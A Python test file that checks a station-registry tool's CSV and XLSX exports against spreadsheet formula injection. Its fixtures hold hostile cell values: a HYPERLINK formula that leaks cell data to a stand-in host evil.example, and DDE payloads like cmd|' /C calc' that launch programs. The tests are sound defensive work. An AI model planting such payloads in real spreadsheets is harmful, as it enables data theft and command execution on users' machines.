"""Issue 14 §3: safe spreadsheets. Every CSV and XLSX yizhan writes -- the registry export, coverage tables,
gaps, recommended sites (with their before/after sheets), the rejected rows of an import, over HTTP and on the
command line -- must not carry a live formula (OWASP "CSV injection": text starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return), while numbers stay numbers and the text reads the same to a person.

Each file is read back with a real reader: openpyxl for XLSX (no cell of type ``f``; the text exactly as given,
marked as text with Excel's quote prefix), the csv module for CSV (text cells carry the neutralising apostrophe,
numbers do not). ``yizhan export`` reports the rows it wrote.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from stations.export import FORMULA_STARTS, neutralise_formulas, write_table

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86 871 6512 3456", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-5"]


def _hostile_stations() -> pd.DataFrame:
    from tests.conftest import fixture_stations

    df = fixture_stations().head(len(HOSTILE)).copy()
    df["name"] = HOSTILE
    df["address"] = list(reversed(HOSTILE))
    df["phone"] = "+86 871 0000"
    df["id"] = [f"=ID{i}()" for i in range(len(df))]
    return df


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _xlsx_cells(path: Path):
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower() not in ("nan", "inf", "-inf", "infinity", "-infinity")


def assert_csv_safe(path: Path, must_hold: tuple[str, ...] = ()) -> list[list[str]]:
    cells = _csv_cells(path)
    flat = [c for row in cells for c in row]
    for c in flat:
        if _is_number(c):
            continue  # numbers stay numbers, negative ones too
        assert not c.startswith(FORMULA_STARTS), f"{path.name}: live formula cell {c!r}"
    for text in must_hold:
        assert "'" + text in flat, f"{path.name}: {text!r} not written with its apostrophe"
    return cells


def assert_xlsx_safe(path: Path, must_hold: tuple[str, ...] = ()) -> None:
    seen = set()
    for sheet, cell in _xlsx_cells(path):
        assert cell.data_type != "f", f"{path.name}!{sheet}{cell.coordinate}: formula {cell.value!r}"
        if isinstance(cell.value, str):
            if cell.value.startswith(FORMULA_STARTS):
                assert cell.quotePrefix, f"{path.name}!{sheet}{cell.coordinate}: {cell.value!r} not marked as text"
            seen.add(cell.value)
    for text in must_hold:  # the text reads the same (no apostrophe added in a workbook)
        assert text in seen, f"{path.name}: {text!r} missing"


# ----------------------------------------------------------------------------------------- the one function
def test_neutralise_formulas_prefixes_text_and_keeps_numbers():
    df = pd.DataFrame({"text": ["=1+1", "-5", "+86", "@x", "\tx", "\rx", "ok", "", None, "'=kept"],
                       "number": [-5.0, 1, 2, 3, 4, 5, 6, 7, 8, -0.5], "int": np.arange(-5, 5)})
    out = neutralise_formulas(df)
    got = [None if pd.isna(v) else v for v in out["text"]]
    assert got == ["'=1+1", "'-5", "'+86", "'@x", "'\tx", "'\rx", "ok", "", None, "'=kept"]
    assert out["number"].tolist() == df["number"].tolist() and out["number"].dtype == float
    assert out["int"].tolist() == list(range(-5, 5))
    assert df["text"].iloc[0] == "=1+1"  # the caller's frame is not changed
    assert neutralise_formulas(pd.DataFrame({"=bad header": ["x"]})).columns.tolist() == ["'=bad header"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_write_table_numbers_stay_numbers(tmp_path, fmt):
    df = pd.DataFrame({"name": ["-5", "=1+1", "plain"], "value": [-5.0, 2.5, -0.25], "n": [-3, 0, 7]})
    out = write_table(df, fmt, tmp_path / f"t.{fmt}")
    if fmt == "csv":
        rows = assert_csv_safe(out, ("-5", "=1+1"))
        assert rows[1] == ["'-5", "-5.0", "-3"] and rows[3] == ["plain", "-0.25", "7"]
    else:
        assert_xlsx_safe(out, ("-5", "=1+1"))
        ws = openpyxl.load_workbook(out).active
        assert [c.value for c in ws[2]] == ["-5", -5.0, -3]
        assert ws["A2"].data_type == "s" and ws["B2"].data_type == "n"


# ----------------------------------------------------------------------------------------- every writer
def test_registry_export_and_cli_report_rows_written(tmp_path):
    from stations.registry import Registry
    from webmap.cli import main

    db = f"sqlite:///{tmp_path / 'r.sqlite'}"
    Registry(db).replace_all(_hostile_stations())
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"stations.{fmt}"
        r = CliRunner().invoke(main, ["export", "--out", str(out), "--db", db], catch_exceptions=False)
        assert r.exit_code == 0, r.output
        assert f"wrote {len(HOSTILE)} stations to {out}" in r.output
        (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(out, tuple(HOSTILE[:4]) + ("=ID1()",))


def test_cli_export_counts_what_it_wrote_not_the_registry_afterwards(tmp_path, monkeypatch):
    """``yizhan export`` printed ``reg.count()`` after writing: a count re-queried, which an import between the
    two would change. It reports the rows of the very frame it wrote."""
    from stations.registry import Registry
    from webmap.cli import main

    db = f"sqlite:///{tmp_path / 'r.sqlite'}"
    Registry(db).replace_all(_hostile_stations())
    monkeypatch.setattr(Registry, "count", lambda self: 999_999)
    r = CliRunner().invoke(main, ["export", "--out", str(tmp_path / "s.csv"), "--db", db], catch_exceptions=False)
    assert f"wrote {len(HOSTILE)} stations" in r.output and "999" not in r.output
    assert len(_csv_cells(tmp_path / "s.csv")) == len(HOSTILE) + 1


def test_exported_csv_imports_back_as_it_was(tmp_path):
    """The apostrophe is the export's guard, not the data: the table reader takes it off again."""
    from stations.tables import read_table

    df = pd.DataFrame({"name": HOSTILE, "lon": np.linspace(102.0, 103.0, len(HOSTILE))})
    out = write_table(df, "csv", tmp_path / "t.csv")
    table, _ = read_table(out)
    assert table["name"].tolist() == HOSTILE


def test_import_rejects_file_is_safe(tmp_path):
    from webmap.cli import main

    db = f"sqlite:///{tmp_path / 'r.sqlite'}"
    src = tmp_path / "in.csv"
    src.write_text("编号,站点名称,经度,纬度,开放时间\nA1,=cmd|' /C calc'!A0,999,25.04,24小时\n"
                   "A2,正常驿站,102.7129,25.0406,24小时\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    r = CliRunner().invoke(main, ["import", str(src), "--db", db, "--skip-invalid", str(rejects)], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    assert_csv_safe(rejects, ("=cmd|' /C calc'!A0",))


@pytest.fixture()
def hostile_app(tmp_path):
    """The app over hostile station names and ids, with a small demand around them and a hostile candidate file."""
    from stations.demand import demand_from_points
    from stations.registry import Registry
    from webmap import create_app

    db = f"sqlite:///{tmp_path / 'h.sqlite'}"
    Registry(db).replace_all(_hostile_stations())
    rng = np.random.default_rng(3)
    lon, lat = rng.uniform(102.55, 102.85, 400), rng.uniform(24.9, 25.2, 400)
    demand = demand_from_points(lon, lat, rng.uniform(1, 20, 400))
    return create_app({"TESTING": True, "DATABASE_URL": db, "TILES": "none", "PLANNER_DEMAND": demand})


def test_http_downloads_are_safe(hostile_app, tmp_path):
    client = hostile_app.test_client()
    cand = ("lon,lat,name,id\n102.70,25.03,=HYPERLINK(\"http://x\"),=C1\n102.75,25.08,+86 候选,@C2\n"
            "102.62,24.98,@SUM(1),-C3\n")
    r = client.post("/api/candidates", data={"file": (io.BytesIO(cand.encode()), "c.csv")},
                    content_type="multipart/form-data")
    assert r.status_code == 201, r.data
    cid = r.get_json()["id"]
    urls = {
        "coverage": "/planner/download/coverage.{fmt}?by=county",
        "gaps": "/planner/download/gaps.{fmt}",
        "sites": "/recommend/download/sites.{fmt}?n=3&candidates=" + cid,
    }
    for what, url in urls.items():
        for fmt in ("csv", "xlsx"):
            resp = client.get(url.format(fmt=fmt))
            assert resp.status_code == 200, (what, resp.data[:300])
            path = tmp_path / f"{what}.{fmt}"
            path.write_bytes(resp.data)
            if fmt == "csv":
                assert_csv_safe(path)
            else:
                assert_xlsx_safe(path)
    # the hostile ids and names really were in the files: gaps name their nearest station, sites their candidate
    gaps = {c for row in _csv_cells(tmp_path / "gaps.csv") for c in row}
    assert any(c.startswith("'=ID") for c in gaps)
    sites = {c for row in _csv_cells(tmp_path / "sites.csv") for c in row}
    assert {"'=C1", "'@C2", "'-C3"} & sites


def test_recommendation_export_every_sheet_and_sibling_csv(hostile_app, tmp_path):
    from stations import siting as S
    from stations.demand import demand_from_points
    from stations.registry import Registry

    stations = Registry(hostile_app.config["DATABASE_URL"]).load()
    rng = np.random.default_rng(5)
    lon, lat = rng.uniform(102.55, 102.85, 300), rng.uniform(24.9, 25.2, 300)
    demand = demand_from_points(lon, lat, rng.uniform(1, 20, 300))
    cands = S.candidates_from_frame([102.70, 102.75, 102.62], [25.03, 25.08, 24.98], ids=["=C1", "C2", "-C3"],
                                    names=['=HYPERLINK("x")', "+86 候选", "@SUM(1)"])
    rec = S.recommend(stations, demand, n=3, candidates=cands)
    for fmt in ("csv", "xlsx"):
        written = rec.export(tmp_path / f"sites.{fmt}")
        for path in written:
            (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(path)
    assert_xlsx_safe(tmp_path / "sites.xlsx", ('=HYPERLINK("x")',))
    assert_csv_safe(tmp_path / "sites.csv", ('=HYPERLINK("x")',))


def test_cli_coverage_and_gaps_files_are_safe(hostile_app, tmp_path, monkeypatch):
    from stations import coverage as C
    from stations.demand import demand_from_points
    from stations.registry import Registry

    stations = Registry(hostile_app.config["DATABASE_URL"]).load()
    rng = np.random.default_rng(7)
    lon, lat = rng.uniform(102.55, 102.85, 300), rng.uniform(24.9, 25.2, 300)
    res = C.compute_coverage(stations, demand_from_points(lon, lat, np.ones(300)), 300.0)
    gaps = C.find_gaps(res)
    assert len(gaps)
    for fmt in ("csv", "xlsx"):
        out = C.export_gaps(gaps, tmp_path / f"g.{fmt}")
        (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(out)
        out = C.export_table(C.coverage_table(res, "county"), tmp_path / f"c.{fmt}")
        (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(out)
    ids = {c for row in _csv_cells(tmp_path / "g.csv") for c in row}
    assert any(c.startswith("'=ID") for c in ids)
